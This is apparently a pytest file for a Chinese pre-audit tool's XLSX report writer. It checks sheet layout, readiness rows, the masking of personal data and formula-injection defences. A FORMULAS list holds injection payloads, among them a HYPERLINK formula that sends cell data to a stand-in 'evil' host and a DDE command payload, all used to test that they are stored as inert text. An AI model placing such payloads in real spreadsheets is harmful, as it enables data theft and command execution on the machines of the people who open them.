from __future__ import annotations

import stat
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from preaudit.reports.xlsx import write_findings_xlsx
from tests.reports.conftest import evidence, finding, make_report, set_readiness

FORMULAS = [
    "=1+1",
    "@SUM(A1)",
    '=HYPERLINK("http://evil/?d="&A2,"点击")',
    "+1-2",
    "-3+4",
    "=cmd|' /C calc'!A0",
]


def write(tmp_path: Path, report: dict[str, Any], **kwargs: Any) -> openpyxl.Workbook:
    path = tmp_path / "findings.xlsx"
    write_findings_xlsx(report, path, **kwargs)
    return openpyxl.load_workbook(path)


def rows_of(sheet: Any) -> list[tuple[Any, ...]]:
    return list(sheet.iter_rows(min_row=2, values_only=True))


def test_one_row_per_flagged_record_with_merged_codes(tmp_path: Path) -> None:
    book = write(tmp_path, make_report())
    records = book["工单问题"]
    header = [c.value for c in records[1]]
    assert header[:6] == ["文件", "工作表", "页", "表格", "行", "记录编号"]
    rows = rows_of(records)
    assert len(rows) == 2
    first = dict(zip(header, rows[0], strict=True))
    assert first["记录编号"] == "GD20260901" and first["行"] == 5
    assert first["问题代码"] == "WO_MISSING_FIELD, WO_MISSING_SIGNATURE"
    assert first["涉及字段"] == "客户电话"
    assert "工单缺少必填字段（客户电话）" in first["需整改内容"]
    assert "工单缺少客户签字" in first["需整改内容"]


def test_package_level_findings_sheet(tmp_path: Path) -> None:
    book = write(tmp_path, make_report())
    rows = rows_of(book["整体问题"])
    assert [(r[0], r[5]) for r in rows] == [
        ("WO_COUNT_BELOW_MIN", None),
        ("DOC_UNREADABLE", "scan_0007.pdf"),
    ]
    # Record-level work-order findings are on the work-order sheet, not here.
    assert "WO_MISSING_FIELD" not in [r[0] for r in rows]


def test_documents_sheet(tmp_path: Path) -> None:
    rows = rows_of(write(tmp_path, make_report())["文件清单"])
    assert rows[0][:5] == ("资料/附件1.xlsx", "xlsx", "售后工单、投诉处理台账", 62, "已解析")
    assert rows[1][4:6] == ("无法读取", "文件已加密")


def test_frozen_header_and_autofilter_on_every_sheet(tmp_path: Path) -> None:
    book = write(tmp_path, make_report())
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A2"
        assert sheet.auto_filter.ref and sheet.auto_filter.ref.startswith("A1:")
        assert sheet.column_dimensions["A"].width >= 6


def test_english_sheet_names(tmp_path: Path) -> None:
    book = write(tmp_path, make_report(lang="en"))
    assert book.sheetnames == [
        "Work orders",
        "Survey responses",
        "Complaints",
        "Package findings",
        "Readiness",
        "Documents",
    ]


def test_readiness_sheet_one_row_per_requirement_with_the_reason(tmp_path: Path) -> None:
    report = make_report()
    set_readiness(report, "response_time", "not_verified", reason="未找到承诺的响应时限")
    rows = rows_of(write(tmp_path, report)["逐项就绪情况"])
    assert len(rows) == len(report["readiness"])
    by_label = {row[0]: row for row in rows}
    response = by_label["售后响应时间符合服务承诺"]
    assert response[1:3] == ("未能核实", "未找到承诺的响应时限")
    signatures = by_label["工单有客户签字"]
    assert signatures[1:3] == ("未就绪", None) and signatures[4] == "工单缺少客户签字"
    assert by_label["营业执照有效，经营范围涵盖认证范围"][1] == "就绪"


@pytest.mark.parametrize("payload", FORMULAS)
def test_formula_injection_stays_text(tmp_path: Path, payload: str) -> None:
    report = make_report(
        findings=[
            finding(
                "WO_MISSING_SIGNATURE",
                title=payload,
                evidence=[evidence(payload, sheet=payload, row=2, record_id=payload)],
            ),
            finding("DOC_UNREADABLE", message=payload, evidence=[evidence(payload)]),
        ],
        documents=[
            {
                "file": payload,
                "format": "xlsx",
                "kinds": [payload],
                "status": "parsed",
                "records": 1,
                "error": payload,
                "unmapped_columns": [payload],
            }
        ],
    )
    book = write(tmp_path, report)
    seen = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows(min_row=2):
            for cell in row:
                if isinstance(cell.value, str) and payload in cell.value:
                    assert cell.data_type == "s", (sheet.title, cell.coordinate)
                    seen += 1
    assert seen >= 6
    with zipfile.ZipFile(tmp_path / "findings.xlsx") as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)


def test_formula_like_text_carries_the_quote_prefix_and_plain_text_does_not(
    tmp_path: Path,
) -> None:
    report = make_report(
        findings=[
            finding(
                "WO_DATE_MISSING",
                evidence=[evidence("-附件.xlsx", sheet="+s", row=4, record_id="=1+1")],
            ),
            finding("DOC_UNREADABLE", message="@SUM(A1)", evidence=[evidence("附件2.pdf")]),
        ]
    )
    book = write(tmp_path, report)
    cells = book["工单问题"][2]
    assert [(c.value, c.quotePrefix) for c in (cells[0], cells[1], cells[5])] == [
        ("-附件.xlsx", True),
        ("+s", True),
        ("=1+1", True),
    ]
    assert cells[4].value == 4 and not cells[4].quotePrefix  # a number is no formula
    package = {c.value: c for c in book["整体问题"][2] if c.value is not None}
    assert package["@SUM(A1)"].quotePrefix and package["@SUM(A1)"].data_type == "s"
    plain = [c for c in package.values() if isinstance(c.value, str) and c.value[0] not in "=+-@"]
    assert plain and not any(c.quotePrefix for c in plain)
    assert not any(c.quotePrefix for c in book["工单问题"][1])  # headers are plain text


def test_record_id_and_file_read_back_as_strings(tmp_path: Path) -> None:
    report = make_report(
        findings=[
            finding(
                "WO_DATE_MISSING",
                evidence=[evidence("@SUM(A1)", sheet="s", row=4, record_id="=1+1")],
            )
        ]
    )
    cells = write(tmp_path, report)["工单问题"][2]
    assert cells[0].value == "@SUM(A1)" and cells[0].data_type == "s"
    assert cells[5].value == "=1+1" and cells[5].data_type == "s"


def test_illegal_characters_and_long_text(tmp_path: Path) -> None:
    report = make_report(
        findings=[
            finding(
                "DOC_UNREADABLE",
                message="坏\x00\x01字\udcff\ufffe" + "x" * 40_000,
                evidence=[evidence("a\x1f.pdf")],
            ),
        ]
    )
    rows = rows_of(write(tmp_path, report)["整体问题"])
    message, file = rows[0][4], rows[0][5]
    assert message.startswith("坏字\ufffd") and len(message) <= 32_000
    assert file == "a.pdf"


@pytest.mark.parametrize("mask", [True, False])
def test_no_personal_data_in_the_workbook(tmp_path: Path, mask: bool) -> None:
    book = write(tmp_path, make_report(), mask=mask)
    values = [str(c) for s in book.worksheets for r in s.iter_rows(values_only=True) for c in r]
    assert not any("13800138000" in v or "王建国" in v for v in values)


def test_workbook_is_private(tmp_path: Path) -> None:
    write(tmp_path, make_report())
    assert stat.S_IMODE((tmp_path / "findings.xlsx").stat().st_mode) == 0o600


def test_records_go_to_the_sheet_of_their_kind(tmp_path: Path) -> None:
    report = make_report(
        findings=[
            finding("WO_MISSING_SIGNATURE", evidence=[evidence("a.xlsx", sheet="工单", row=3)]),
            finding("SV_DUPLICATE_RESPONSE", evidence=[evidence("b.xlsx", sheet="问卷", row=4)]),
            finding("CP_MISSING_FIELD", field="feedback", evidence=[evidence("c.pdf", page=2)]),
            # A licence finding points at a page, but it is not a record: package sheet.
            finding("LIC_EXPIRED", severity="major", evidence=[evidence("lic.pdf", page=1)]),
            # A survey finding about the report file as a whole: package sheet too.
            finding("SV_STATED_MISMATCH", field="sample_size", evidence=[evidence("r.docx")]),
        ]
    )
    book = write(tmp_path, report)
    assert [r[0] for r in rows_of(book["工单问题"])] == ["a.xlsx"]
    assert [r[0] for r in rows_of(book["问卷问题"])] == ["b.xlsx"]
    assert [(r[0], r[2]) for r in rows_of(book["投诉问题"])] == [("c.pdf", 2)]
    package = {(r[0], r[5], r[6]) for r in rows_of(book["整体问题"])}
    assert package == {
        ("LIC_EXPIRED", "lic.pdf", "第 1 页"),
        ("SV_STATED_MISMATCH", "r.docx", None),
    }


def test_empty_kind_sheets_keep_header_and_filter(tmp_path: Path) -> None:
    book = write(tmp_path, make_report(findings=[]))
    sheet = book["投诉问题"]
    assert rows_of(sheet) == []
    assert [c.value for c in sheet[1]][:2] == ["文件", "工作表"]
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == "A1:J1"
